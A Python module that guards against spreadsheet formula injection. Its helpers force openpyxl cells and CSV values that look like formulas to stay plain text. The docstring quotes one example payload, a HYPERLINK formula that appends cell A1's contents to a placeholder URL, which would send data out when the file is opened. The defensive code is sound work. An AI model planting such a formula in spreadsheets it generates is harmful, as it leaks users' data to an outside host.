"""Writing text into spreadsheets safely: what a person or a plan wrote stays text.

openpyxl turns any string that starts with ``=`` into a formula, so a narrative such as
``=HYPERLINK("http://…?x="&A1,"点击查看附件")`` would become a live formula that runs when the
secretariat opens the file (spreadsheet formula injection). Every row written through openpyxl
goes through :func:`append_text` or :func:`put_text`, which keep such values as the text they
are; the exports' big sheets are written with XlsxWriter's ``write_string`` by
:mod:`bot.render.xlsxbook`.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

TEXT = "s"  # openpyxl's data type for a string cell
FORMULA = "f"


def append_text(sheet: Any, values: Sequence[object]) -> None:
    """Append a row to ``sheet``; a value that would read as a formula is written as text."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if cell.data_type == FORMULA:
            cell.data_type = TEXT


def put_text(sheet: Any, row: int, column: int, value: object) -> Any:
    """Write one cell; a value that would read as a formula is written as text. The cell."""
    cell = sheet.cell(row=row, column=column, value=value)
    if cell.data_type == FORMULA:
        cell.data_type = TEXT
    return cell


# What Excel reads as the start of a formula when it opens a CSV.
CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: str) -> str:
    """A CSV cell Excel shows as the text it is: a leading ``'`` before a formula's start."""
    return "'" + value if value.startswith(CSV_FORMULA_START) else value
